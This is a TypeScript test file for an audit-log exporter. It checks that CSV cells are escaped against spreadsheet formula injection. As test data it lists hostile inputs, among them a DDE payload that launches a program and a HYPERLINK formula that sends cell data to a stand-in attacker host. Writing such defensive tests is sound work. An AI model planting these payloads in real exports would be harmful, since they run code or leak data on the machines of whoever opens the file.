import assert from 'node:assert/strict'
import { hash } from 'node:crypto'
import { test } from 'node:test'
import fc from 'fast-check'
import { createLogs, happened } from './audit.fixture.ts'
import { auditCsvHeader, auditCsvLine, auditJsonLine, csvCell } from './audit-files.ts'

const sha256 = (text: string): string => hash('sha256', text, 'hex')
const { chained, log } = createLogs(sha256)

const formulas: Readonly<Record<string, string>> = {
  'a sum': '=1+1',
  'a program': "=cmd|' /C calc'!A0",
  'a program by another sign': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a plus': '+1+1',
  'a minus': '-2+3',
  'a link that tells on the reader': '=HYPERLINK("https://evil.example/?"&A1,"click")',
  'a formula behind a tab': '\t=1+1',
  'a formula behind a carriage return': '\r=1+1',
  'a formula behind a line break': '\n=1+1',
  'a formula behind spaces': '   =1+1',
  'a formula behind a null character': '\u0000=1+1',
  'a formula behind a space that does not break': '\u00a0=1+1',
  'a formula behind a byte order mark': '\ufeff=1+1',
  'a full-width equals sign': '＝1+1',
  'a full-width plus': '＋1+1',
  'a full-width minus': '－1+1',
  'a full-width at sign': '＠SUM(1)',
  'a pipe': '|calc',
  'a percent sign': '%1',
}
for (const [title, text] of Object.entries(formulas)) {
  test(`shows ${title} as text`, () => {
    assert.match(csvCell(text), /^"'/)
  })
  test(`shows ${title} as text where a semicolon separates cells`, () => {
    assert.match(csvCell(`harmless;${text}`), /^"harmless;'/)
  })
}

test('leaves a harmless cell as it is', () => {
  assert.equal(
    csvCell('Published revision 7, “A – B”: Default → Enforced'),
    '"Published revision 7, “A – B”: Default → Enforced"',
  )
})

test('doubles quotes and keeps a separator and a line break inside the cell', () => {
  assert.equal(csvCell('a "b", c\nd'), '"a ""b"", c\\u{a}d"')
})

test('no text makes a cell that ends early, a second line, or a formula', () => {
  fc.assert(
    fc.property(fc.string({ unit: fc.constantFrom(...'=+-@;,"\'\t\r\n ab|＝') }), (text) => {
      const cell = csvCell(text)
      const inside = cell.slice(1, -1)
      assert.equal(/[\r\n\t]/.test(cell), false)
      assert.equal(inside.replaceAll('""', '').includes('"'), false)
      assert.equal(/^[=+\-@|＝]/.test(inside.trimStart()), false)
    }),
  )
})

test('writes one line for each event, with as many cells as the header', () => {
  const [event] = chained([happened('=1+1, "quoted"', 1_800_000_000_042)])
  assert.ok(event)
  const cells = (line: string): number => line.match(/"(?:[^"]|"")*"/g)?.length ?? 0
  const line = auditCsvLine(event)
  assert.equal(line.startsWith('"1","2027-01-15T08:00:00.042Z","change.withdrawn"'), true)
  assert.equal(line.endsWith('\r\n'), true)
  assert.equal(line.includes(`"'=1+1, ""quoted"""`), true)
  assert.equal(cells(line), cells(auditCsvHeader))
})

test('writes JSON Lines from which the very events can be read', () => {
  const events = log(3)
  const text = events.map(auditJsonLine).join('')
  assert.deepEqual(
    text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line)),
    events,
  )
})

test('an event that somebody emptied still shows what is left of it', () => {
  const [event] = log(1)
  const emptied = { ...event, at: Number.NaN, actor: null, subject: 7, words: '\ud800', data: undefined }
  const line = auditCsvLine(emptied as unknown as Parameters<typeof auditCsvLine>[0])
  assert.match(line, /^"1","","change\.withdrawn","","",/)
  const json = auditJsonLine(emptied as unknown as Parameters<typeof auditJsonLine>[0])
  assert.equal(JSON.parse(json).sequence, 1)
})
